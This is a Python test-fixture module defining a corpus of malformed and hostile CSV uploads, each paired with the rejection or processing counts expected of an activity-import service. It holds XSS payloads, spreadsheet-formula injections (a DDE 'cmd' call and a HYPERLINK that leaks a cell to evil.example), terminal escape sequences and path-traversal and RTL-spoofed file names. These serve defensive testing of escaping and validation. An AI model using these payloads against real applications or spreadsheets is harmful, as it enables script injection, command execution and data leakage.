"""The hostile corpus: malformed and malicious activity files, each with what must happen to it.

Every case assumes the service users U00001–U00005 exist (the tests' ``service_users``) and no
other user. Counts are those of SPEC §4's cell table for that content; a rejected file's message
matches ``pattern``. A page shows the ``MARKERS`` a case carries escaped, never as markup.
"""

from __future__ import annotations

import csv
import io
import random
from dataclasses import dataclass, field

HEADER = "user_id,login_count,post_count\n"
CSV_FIELD_LIMIT = 131_072  # Python's csv.field_size_limit() default

# Payloads aimed at the pages that show a file's values. The two short ones are exactly ten
# characters: valid user_id lengths, so they reach the trail as user_ids, not only as messages.
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
ATTRIBUTE_BREAK = '"><script>'
SINGLE_QUOTE_BREAK = "'><b>x</b>"
# Spreadsheet formulas (CSV injection): DDE, a link, and the other prefixes Excel evaluates.
CMD = "=cmd|' /C calc'!A0"
LONG_FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click here to claim your prize")'

# Terminal control sequences aimed at the commands' output: erase the screen (ESC CSI), set the
# window title (OSC, closed by ESC \; a BEL would make the file binary), the one-byte C1 CSI.
CLEAR_SCREEN = "\x1b[2J"
SET_TITLE = "\x1b]0;ok\x1b\\"
C1_CSI = "\x9b"

# What must never appear raw in a page (each is part of a payload above, or of a file name
# below), and is shown escaped where the value is shown. None occurs in a page of ours.
MARKERS = ("<script>alert(", "<img src=x onerror=", '"><script>', "'><b>x", "<b>bold")


@dataclass(frozen=True)
class Rejected:
    """The file is refused whole: nothing applied, the message matches ``pattern``."""

    pattern: str


@dataclass(frozen=True)
class Processed:
    """The file is processed (exit 0): these counts, and a warning matching each pattern."""

    rows: int
    success: int
    failed: int
    skipped: int = 0
    warnings: tuple[str, ...] = ()

    @property
    def log_rows(self) -> int:
        return self.success + self.failed + self.skipped


@dataclass(frozen=True)
class Case:
    """One file of the corpus: its name for test ids, its bytes, what must happen to it, and
    the file name and execution name it is sent with."""

    name: str
    content: bytes
    outcome: Rejected | Processed
    file_name: str = "activity.csv"
    execution_name: str | None = None
    # The file name the admin keeps: a browser's name goes through Django's multipart parser
    # (folders cut off, HTML entities decoded, characters that are not printable dropped).
    admin_file_name: str | None = None
    markers: tuple[str, ...] = field(default=(), init=False)

    def __post_init__(self) -> None:
        text = (
            self.content.decode("utf-8", "replace")
            + self.content.decode("cp932", "replace")
            + self.file_name
            + (self.execution_name or "")
        )
        object.__setattr__(self, "markers", tuple(m for m in MARKERS if m in text))

    @property
    def rejected(self) -> bool:
        return isinstance(self.outcome, Rejected)

    @property
    def uploaded_file_name(self) -> str:
        return self.admin_file_name if self.admin_file_name is not None else self.file_name


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    """Rows written as a CSV (quoted where needed), encoded."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def _random_binary() -> bytes:
    return b"\x00" + random.Random(1234).randbytes(4096)  # noqa: S311 - fixed test data


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
    b"\x1f\xf3\xffa\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)


def one_failed(login: int) -> bytes:
    """Two rows, 3 success cells and 1 failed ('x'); ``login`` keeps each file's sha256 apart
    (a second file with the same content would be rejected as a duplicate)."""
    return f"{HEADER}U00001,{login},1\nU00002,x,1\n".encode()


REJECTED = [
    Case("zero-bytes", b"", Rejected(r"the file is empty")),
    Case("utf-8-bom-only", b"\xef\xbb\xbf", Rejected(r"no header row")),
    Case("blank-lines-only", b"\n   \r\n\t\n\n  \n", Rejected(r"no header row")),
    Case("data-without-header", b"U00001,1,2\nU00002,3,4\n", Rejected(r"no user_id column")),
    Case("no-user-id-column", b"login_count,post_count\n1,2\n", Rejected(r"no user_id column")),
    Case("no-statistic-column", b"user_id,visits\nU00001,3\n", Rejected(r"no statistic column")),
    Case(
        "repeated-column",
        b"user_id,login_count,login_count\nU00001,1,2\n",
        Rejected(r"repeated column in header: login_count"),
    ),
    Case(
        "repeated-column-case-and-spaces",
        b"user_id,Login_Count , login_count\nU00001,1,2\n",
        Rejected(r"repeated column in header: login_count"),
    ),
    Case(
        "repeated-user-id",
        b"USER_ID,login_count, user_id \nU00001,1,U00002\n",
        Rejected(r"repeated column in header: user_id"),
    ),
    Case(
        "repeated-hostile-column",
        csv_bytes([["user_id", "login_count", SCRIPT, SCRIPT.upper()], ["U00001", "1", "a", "b"]]),
        Rejected(r"repeated column in header: <script>alert\(1\)</script>"),
    ),
    Case(
        "repeated-terminal-control-column",
        csv_bytes(
            [["user_id", "login_count", CLEAR_SCREEN, CLEAR_SCREEN], ["U00001", "1", "", ""]]
        ),
        Rejected(r"repeated column in header: \x1b\[2j"),
    ),
    Case("random-bytes-with-nul", _random_binary(), Rejected(r"not a text CSV file")),
    Case("png-image", PNG, Rejected(r"not a text CSV file")),
    Case(
        "nul-byte-in-a-cell",
        b"user_id,login_count\nU00001,1\x002\n",
        Rejected(r"not a text CSV file"),
    ),
    Case(
        "utf-16-with-bom",
        "user_id,login_count\r\nU00001,1\r\n".encode("utf-16"),
        Rejected(r"(?i)encoding|utf-16"),
    ),
    Case(
        "latin-1",
        b"user_id,login_count\nU00001,1\nJos\xe9,1\nM\xfcller,2\n",
        Rejected(r"unsupported encoding"),
    ),
    Case(
        "huge-cell",
        (
            HEADER + "U00001,1,1\nU00002," + "9" * (CSV_FIELD_LIMIT + 10) + ",1\nU00003,1,1\n"
        ).encode(),
        Rejected(r"line 3\b.*(field limit|cannot be parsed)"),
    ),
    Case(
        "unterminated-quote-at-eof",
        (HEADER + 'U00001,1,1\nU00002,1,"5\n').encode(),
        Rejected(r"\bline \d+"),
    ),
    Case(
        "unterminated-quote-swallows-rows",
        (HEADER + 'U00001,"5,1\nU00002,3,1\nU00003,4,1\n').encode(),
        Rejected(r"\bline \d+"),
    ),
    Case(
        "hostile-execution-name-too-long",
        one_failed(1),
        Rejected(r"longer than 80 characters"),
        execution_name=IMG + "n" * 60,
    ),
]

PROCESSED = [
    Case(
        "header-only",
        HEADER.encode(),
        Processed(rows=0, success=0, failed=0, warnings=(r"no data rows",)),
    ),
    Case(
        "too-few-or-too-many-fields",
        (HEADER + "U00001,1,2\nU00002,3\nU00003\nU00004,1,2,3\nU00005,4,0\n").encode(),
        Processed(rows=5, success=3, failed=6, skipped=1),
    ),
    Case(
        "formula-cells",
        csv_bytes(
            [
                ["user_id", "login_count", "post_count"],
                [CMD, "1", "1"],
                ["+1", "1", "1"],
                ["@SUM(1)", "2", "2"],
                ["-1+2", "1", "1"],
                ["U00001", CMD, "@SUM(1)"],
                ["U00002", "-1+2", "+1"],
                ["U00003", LONG_FORMULA, "1"],
            ]
        ),
        Processed(rows=7, success=2, failed=12),
    ),
    Case(
        "formula-header-and-cells",
        csv_bytes(
            [
                ["user_id", "login_count", '=HYPERLINK("http://evil.example","x")', "post_count"],
                ["U00001", "+cmd", "=1+1", "-2+3"],
                ["U00002", "1", "@SUM(1)", "\t1"],
            ]
        ),
        Processed(
            rows=2, success=2, failed=2, warnings=(r"unknown column ignored: '=hyperlink\(",)
        ),
    ),
    Case(
        "hostile-user-ids",
        csv_bytes(
            [
                ["user_id", "login_count", "post_count"],
                [ATTRIBUTE_BREAK, "1", "1"],  # unknown user: logged with its id
                [SINGLE_QUOTE_BREAK, "2", ""],
                [SCRIPT, "1", "1"],  # too long: logged without id, named in the message
                [IMG, "1", "1"],
                ["U00001", "1", "1"],
            ]
        ),
        Processed(rows=5, success=2, failed=8),
    ),
    Case(
        "hostile-values",
        csv_bytes(
            [
                ["user_id", "login_count", "post_count"],
                ["U00001", SCRIPT, IMG],
                ["U00002", ATTRIBUTE_BREAK, "5"],
                ["U00003", "1", SINGLE_QUOTE_BREAK],
            ]
        ),
        Processed(rows=3, success=2, failed=4),
    ),
    Case(
        "hostile-header-names",
        csv_bytes(
            [
                ["user_id", "login_count", IMG, SCRIPT, "post_count"],
                ["U00001", "1", "a", "b", "2"],
                ["U00002", "x", "a", "b", "1"],
            ]
        ),
        Processed(
            rows=2,
            success=3,
            failed=1,
            warnings=(
                r"unknown column ignored: '<img src=x onerror=alert\(1\)>'",
                r"unknown column ignored: '<script>alert\(1\)</script>'",
            ),
        ),
    ),
    Case(
        "terminal-control-sequences",
        csv_bytes(
            [
                ["user_id", "login_count", "post_count", CLEAR_SCREEN + C1_CSI + "note"],
                [CLEAR_SCREEN, "1", "1", "a"],  # unknown user: logged with its id
                ["U00001", CLEAR_SCREEN, C1_CSI + "2J", "b"],
                [SET_TITLE + "U0000001", "1", "1", "c"],  # too long: named in the message
                ["U00002", "1", "1", "d"],
                ["U00003", "1\n\tline 9: fake", "1", "e"],
            ]
        ),
        Processed(
            rows=5,
            success=3,
            failed=7,
            warnings=(r"unknown column ignored: '\\x1b\[2j\\x9bnote'",),
        ),
    ),
    Case(
        "cp932-with-markup",
        csv_bytes(
            [
                ["user_id", "login_count", "メモ"],
                ["Ｕ００００１", "1", "全角"],  # full-width: an unknown user
                ["U00001", "<script>alert('日本')</script>", "値"],
                ["ユーザー", "1", "名前"],
                ["U00002", "2", "ok"],
            ],
            encoding="cp932",
        ),
        Processed(rows=4, success=1, failed=3, warnings=(r"unknown column ignored: 'メモ'",)),
    ),
    Case(
        "hostile-file-name",
        one_failed(2),
        Processed(rows=2, success=3, failed=1),
        file_name=IMG + ".csv",
    ),
    Case(
        "file-name-with-quotes",
        one_failed(3),
        Processed(rows=2, success=3, failed=1),
        file_name='it\'s "quoted" & <b>bold.csv',
    ),
    Case(
        "file-name-of-255-characters",
        one_failed(4),
        Processed(rows=2, success=3, failed=1),
        file_name=IMG + "x" * (255 - len(IMG) - 4) + ".csv",
    ),
    Case(
        "file-name-with-rtl-and-zero-width-characters",
        one_failed(5),
        Processed(rows=2, success=3, failed=1),
        file_name="\u202e" + IMG + "\u200bvsc.csv",
        admin_file_name=IMG + "vsc.csv",
    ),
    Case(
        "file-name-with-parent-folders",
        one_failed(6),
        Processed(rows=2, success=3, failed=1),
        file_name="../../" + IMG + ".csv",
        admin_file_name=IMG + ".csv",
    ),
    Case(
        "hostile-execution-name",
        (HEADER + "U00001,1,1\nU99999,1,1\n").encode(),
        Processed(rows=2, success=2, failed=2),
        execution_name="<script>alert('name')</script>",
    ),
]

CORPUS = REJECTED + PROCESSED
CASES = {case.name: case for case in CORPUS}
assert len(CASES) == len(CORPUS), "corpus case names are unique"
